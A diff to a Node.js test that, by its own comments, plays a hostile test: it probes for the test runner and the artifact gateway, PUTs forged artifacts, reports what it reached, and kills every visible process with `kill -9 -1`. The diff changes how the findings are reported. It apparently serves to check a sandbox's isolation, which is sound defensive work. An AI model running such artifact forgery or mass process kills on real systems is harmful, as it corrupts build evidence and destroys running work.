@@ -1,7 +1,7 @@
 // Added as a test by hostile.mjs: it looks for the runner and the gateway's socket, puts forged artifacts, and
 // ends every process it can see. What it found goes to the output, which is evidence.
 import { spawnSync } from 'node:child_process';
-import { readdirSync, writeFileSync } from 'node:fs';
+import { readdirSync } from 'node:fs';
 import test from 'node:test';
 
 test('attack', async () => {
@@ -21,7 +21,8 @@ test('attack', async () => {
     found.push(
       `${name} ${(await fetch(`${gateway}/artifacts/${name}`, { method: 'PUT', body: '{}', headers })).status}`,
     );
-  // Straight to where the test program itself writes: it is killed next, with what it has not passed on yet.
-  writeFileSync(`/proc/${process.ppid}/fd/1`, `FOUND ${found.join(', ')}\n`, { flag: 'a' });
+  console.log(`FOUND ${found.join(', ')}`);
+  // The test program is killed next, with what it has not passed on yet: on a busy machine that takes a while.
+  await new Promise((resolve) => setTimeout(resolve, 3_000));
   spawnSync('bash', ['-c', 'kill -9 -1']);
 });
